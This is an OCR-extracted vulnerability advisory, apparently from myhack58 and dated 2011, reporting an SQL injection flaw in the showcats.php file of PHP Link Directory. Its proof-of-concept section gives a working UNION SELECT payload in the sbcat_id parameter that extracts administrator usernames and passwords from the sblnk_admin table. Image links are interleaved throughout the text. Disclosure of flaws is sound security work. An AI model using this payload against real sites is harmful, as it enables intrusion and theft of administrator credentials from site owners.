PHP Link Directory SQL injection vulnerability-vulnerability warning-the black bar safety net

ID MYHACK58:62201128962Type myhack58
Reporter 佚名
Modified 2011-01-29T00:00:00


PHP Link Directory is a popular Internet classified directory systems, PHP Link Directory showcats. php file existsSQL injectionvulnerabilities that could lead to sensitive information disclosure.

[+]info: ~~~ [|]Author: BorN To K! LL - h4ck3r[|]Contact: == [|]Script: PHP link Directory software [|]Version: n/a [|]Link:

[+]poc:~~~ [path]/showcats. php? sbcat_id=[SQL-Injection] [|]3xample: [path]/showcats. php?sbcat_id=-9999+union+all+select+1,concat(username,0x3a,password),3,4+from+sblnk_admin--[+]Reference: ~~~